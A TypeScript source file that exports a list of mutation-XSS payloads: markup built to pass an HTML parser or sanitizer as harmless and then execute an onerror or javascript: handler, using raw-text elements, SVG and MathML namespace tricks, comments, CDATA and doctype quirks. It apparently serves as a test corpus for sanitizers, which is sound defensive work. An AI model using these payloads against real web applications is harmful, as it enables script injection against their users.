// Markup that is harmless as one parser reads it and runs as the next one does. See xss-vectors.ts.

const IMG = '<img src=x onerror=RUN>'
const RAW =
  'xmp noscript textarea title iframe noembed noframes plaintext style script template select option comment'
const inRawText = RAW.split(' ').flatMap((raw) => [
  `<${raw}>${IMG}</${raw}>`,
  `<${raw}><p title="</${raw}>${IMG}">`,
  `<svg><${raw}><p title="</${raw}>${IMG}">`,
  `<math><mtext><${raw}><p alt="</${raw}>${IMG}">`,
  `</${raw}>${IMG}<${raw}>`,
  `<${raw}><!--</${raw}>${IMG}-->`,
])

const INTEGRATION = 'desc title foreignObject mtext mi mo mn ms annotation-xml mglyph malignmark'
const inNamespaces = INTEGRATION.split(' ').flatMap((name) => [
  `<svg><${name}><style><p title="</style>${IMG}">`,
  `<math><${name}><mglyph><style><!--</style>${IMG}`,
  `<math><${name}><table><mglyph><style><![CDATA[</style>${IMG}]]>`,
  `<svg></p><${name}><style><a id="</style>${IMG}">`,
  `<form><math><${name}></form><form><mglyph><style></math>${IMG}`,
])

const thatMutate = String.raw`
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=RUN></style>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg><style><p id="</style><img src=x onerror=RUN>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>">
<svg><desc><noscript><p title="</noscript><img src=x onerror=RUN>">
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg></br><style><a title="</style><img src=x onerror=RUN>">
<svg><p><style><g title="</style><img src=x onerror=RUN>">
<svg><foreignObject><p><svg><style><a id="</style><img src=x onerror=RUN>">
<svg><title><svg><style></title><img src=x onerror=RUN>
<svg><font color=x><style><p title="</style><img src=x onerror=RUN>">
<svg><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style></svg>
<math><style><img src=x onerror=RUN></style></math>
<noscript><style></noscript><img src=x onerror=RUN></style>
<noembed><noembed></noembed><img src=x onerror=RUN></noembed>
<select><template><img src=x onerror=RUN></template></select>
<select><iframe></select><img src=x onerror=RUN></iframe>
<select><option><style></select><img src=x onerror=RUN></style>
<table><caption><svg><style></caption><img src=x onerror=RUN></style>
<table><tr><td><svg><desc></td><td><img src=x onerror=RUN>
<table><colgroup><svg><style></table><img src=x onerror=RUN>
<a><table><a href=javascript:RUN>x</table></a>
<a href="/x"><a href=javascript:RUN>x</a>
<b><p></b><img src=x onerror=RUN></p>
<p><table><p><img src=x onerror=RUN></table>
<h1><h2><img src=x onerror=RUN></h1>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<pre>&lt;img src=x onerror=RUN&gt;</pre><img src=x onerror=RUN>
<xmp>&lt;/xmp&gt;</xmp><img src=x onerror=RUN>
<textarea>&lt;/textarea&gt;<img src=x onerror=RUN></textarea><img src=x onerror=RUN>
<p alt="x\u0060\u0060onerror=RUN">x</p><img alt="\u0060\u0060onmouseover=RUN" src=x onerror=RUN>
<body><noframes><body onload=RUN></noframes>
<nobr><nobr><nobr><nobr><img src=x onerror=RUN>
<ruby><rp><rt><img src=x onerror=RUN>
<button><button><img src=x onerror=RUN>
<dd><dt><li><img src=x onerror=RUN>
`
  .trim()
  .split('\n')

const declarations = `
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<!--<img src="--><img src=x onerror=RUN>">
<!-- <!-- --> <img src=x onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![if !IE]><img src=x onerror=RUN><![endif]>
<![CDATA[<img src=x onerror=RUN>]]>
<![CDATA[><img src=x onerror=RUN>]]>
<svg><![CDATA[</svg><img src=x onerror=RUN>]]>
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=RUN>//"></svg>
<?xml version="1.0"?><img src=x onerror=RUN>
<?xml-stylesheet href="javascript:RUN"?>
<?x ?><img src=x onerror=RUN>?>
<? <img src=x onerror=RUN> ?>
<!DOCTYPE html><img src=x onerror=RUN>
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=RUN>">]><p>&e;</p>
<!x><img src=x onerror=RUN>
</ ><img src=x onerror=RUN>
</!x><img src=x onerror=RUN>
<%<img src=x onerror=RUN>%>
<//><img src=x onerror=RUN>
`
  .trim()
  .split('\n')

export const mutationVectors = [...inRawText, ...inNamespaces, ...thatMutate, ...declarations]
